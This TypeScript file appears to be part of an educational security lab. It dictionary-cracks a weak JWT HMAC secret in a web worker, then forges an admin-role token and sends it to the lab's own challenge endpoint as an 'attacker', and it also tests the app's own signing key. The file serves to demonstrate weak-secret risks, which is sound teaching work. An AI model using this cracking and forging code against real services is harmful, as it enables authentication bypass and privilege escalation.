import * as z from '@/lib/core/schema'
import type { World } from '@/app/experiments/_runtime/world'
import { subtleCrypto } from '@/lib/core/random-id'
import { specimenOf } from '@/lib/core/specimens'
import type { News } from './cracker'
import type { Guessed, Observation } from './judge'

const side = z.object({
  token: z.string(),
  startRefuses: z.nullable(z.string()),
  libraryRefuses: z.nullable(z.string()),
})
const challengeSchema = z.object({ words: z.array(z.string()), weak: side, strong: side })
const ENDPOINT = '/experiments/weak-secret/lab/challenge'

/** Two tokens, one list of words, and a token of our own with whatever was found. */
export async function run(world: World): Promise<Observation> {
  // Asked first: without it the worker would guess for ever and find nothing.
  subtleCrypto()
  const { words, weak, strong } = challengeSchema.parse(
    await (await world.fetch(ENDPOINT, {}, { mode: 'jwt', label: 'get two tokens' })).json(),
  )
  const ofWeak = await guess(world, weak.token, words, 'the word')
  const ofStrong = await guess(world, strong.token, words, '256 random bits')
  const mintedRole = ofWeak.found === null ? null : await mint(world, weak.token, ofWeak.found)
  const told = ({ startRefuses, libraryRefuses }: z.infer<typeof side>) => ({ startRefuses, libraryRefuses })
  return {
    words: words.length,
    weak: { ...ofWeak, ...told(weak), bits: Math.log2(words.length) },
    strong: { ...ofStrong, ...told(strong), bits: 256 },
    mintedRole,
    own: await ownToken(world, words),
  }
}

const jwks = z.object({
  keys: z.array(z.object({ kid: z.string(), n: z.optional(z.string()), x: z.optional(z.string()) })),
})
const header = z.object({ alg: z.string(), kid: z.optional(z.string()) })

/** A token of the app itself, not of this experiment: how it is signed, and whether the list of words opens it. */
async function ownToken(world: World, words: string[]): Promise<Observation['own']> {
  const guest = await world.guest({ password: true })
  const { credential } = await world.real(guest).signIn(specimenOf('jwt', 'bearer-memory'))
  const { alg, kid } = header.parse(
    JSON.parse(atob((credential.split('.')[0] ?? '').replaceAll('-', '+').replaceAll('_', '/'))),
  )
  if (alg.startsWith('HS')) {
    const { found } = await guess(world, credential, words, 'the app’s own secret')
    return { algorithm: alg, keyBits: null, found }
  }
  const published = jwks.parse(await (await world.fetch('/.well-known/jwks.json', {}, { mode: 'jwt' })).json())
  const key = published.keys.find((each) => each.kid === kid)
  // Six bits a letter, without what the spelling adds.
  const bitsOf = (text: string) => Math.floor((text.length * 6) / 8) * 8
  return { algorithm: alg, keyBits: key ? bitsOf(key.n ?? key.x ?? '') : null, found: null }
}

/** In a worker, which ends with the run. */
function guess({ signal, tell }: World, token: string, words: string[], what: string): Promise<Guessed> {
  const worker = new Worker(new URL('./cracker.ts', import.meta.url), { type: 'module' })
  return new Promise<Guessed>((resolve, reject) => {
    signal.addEventListener('abort', () => reject(signal.reason), { once: true })
    worker.addEventListener('error', () =>
      reject(new Error('This browser lets the page have no worker, so nothing is guessed.')),
    )
    worker.addEventListener('message', ({ data }: MessageEvent<News>) => {
      if (data.kind === 'progress') tell(`guessing ${what}: ${data.tries} of ${words.length}`)
      else resolve({ found: data.found, tries: data.tries, elapsedMs: data.elapsedMs })
    })
    worker.postMessage({ token, words })
  }).finally(() => worker.terminate())
}

const encoder = new TextEncoder()
const base64url = (bytes: Uint8Array) =>
  btoa(String.fromCharCode(...bytes))
    .replaceAll('+', '-')
    .replaceAll('/', '_')
    .replaceAll('=', '')

/** Signs an admin's token with the secret that was found, and asks a server that has this secret what it reads. */
async function mint({ fetch }: World, token: string, secret: string): Promise<string | null> {
  const [header = ''] = token.split('.')
  const input = `${header}.${base64url(encoder.encode(JSON.stringify({ sub: 'whoever I like', role: 'admin' })))}`
  const key = await subtleCrypto().importKey('raw', encoder.encode(secret), { name: 'HMAC', hash: 'SHA-256' }, false, [
    'sign',
  ])
  const forged = `${input}.${base64url(new Uint8Array(await subtleCrypto().sign('HMAC', key, encoder.encode(input))))}`
  const response = await fetch(
    ENDPOINT,
    {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ token: forged, secret }),
    },
    { mode: 'jwt', actor: 'attacker', label: 'send a token of one’s own' },
  )
  const { role }: { role?: unknown } = await response.json()
  return typeof role === 'string' ? role : null
}
